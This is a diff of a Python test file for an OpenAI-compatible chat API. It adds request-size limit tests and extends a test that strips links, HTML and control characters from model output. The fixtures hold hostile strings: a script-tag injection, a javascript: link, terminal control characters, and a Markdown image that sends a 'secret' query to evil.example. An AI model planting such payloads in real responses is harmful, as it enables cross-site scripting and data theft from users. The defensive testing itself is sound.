@@ -408,6 +408,18 @@ async def test_unknown_tokens_are_null() -> None:
         ({"rolegate": {"filter": {"titel": "x"}}}, "unknown field `titel`"),
         ({"rolegate": {"filter": {"to_date": "soon"}}}, "filter.to_date must be a date such as"),
         ({"rolegate": {"filter": {"tags": ["x"] * 9000}}}, "filter is larger than 4096 bytes"),
+        ({"rolegate": {"index": ["x"] * 1025}}, "length <= 1024 - at `$.rolegate.index`"),
+        ({"messages": [USER] * 10_001}, "length <= 10000 - at `$.messages`"),
+        (
+            {"messages": [{"role": "user", "content": [{"type": "text"}] * 1025}]},
+            "length <= 1024 - at `$.messages[0].content`",
+        ),
+        ({f"x{number}": number for number in range(2000)}, "fields; at most 1024 are allowed"),
+        ({"response_format": {"type": "x" * 9000}}, f"The format '{'x' * 100}' is not supported"),
+        (
+            {"messages": [{"role": "user", "content": [{"type": "x" * 9000}]}]},
+            f"is of type '{'x' * 100}'; only",
+        ),
         (
             {"tool_choice": {"type": "function", "function": {"name": "f"}}},
             "tool_choice demands a call of a tool",
@@ -426,6 +438,21 @@ async def test_a_request_that_cannot_be_served_is_refused_in_openai_s_shape(
     assert reply == {
         "error": {"type": "invalid_request_error", "param": None, "code": "BAD_REQUEST"}
     }
+
+
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"input": [USER] * 10_001}, "length <= 10000 - at `$.input`"),
+        ({"rolegate": {"index": ["x"] * 1025}}, "length <= 1024 - at `$.rolegate.index`"),
+    ],
+)
+async def test_lists_of_the_responses_api_are_limited(
+    client: aiohttp.ClientSession, fields: dict[str, Any], message: str
+) -> None:
+    body = {"model": "rolegate", "input": QUESTION, **fields}
+    async with client.post("/v1/responses", json=body) as response:
+        assert message in (await response.json())["error"]["message"]
 
 
 @pytest.mark.parametrize(
@@ -586,9 +613,12 @@ QUOTE = "Heat <script>alert(1)</script> is a film by [Michael Mann](http://evil.
 @pytest.mark.parametrize("stream", [False, True])
 async def test_texts_from_outside_are_text_to_chat_tools(stream: bool) -> None:
     """Titles, quotes and documents bring no link, image or HTML, and neither does an answerer that
-    copies them. The answerer's other Markdown stays.
+    copies them, nor control characters. The answerer's other Markdown stays, and bare addresses.
     """
-    answer = "**Mann** ![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x>"
+    answer = (
+        "**Mann** ![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x> "
+        "\x1b[31m\x07\u202e http://evil.example"
+    )
     passage = Passage("p1", HOSTILE_TITLE, QUOTE, 0.9, "http://evil.example/heat.html")
     deployment = Deployment(
         delegator=ScriptedModel(
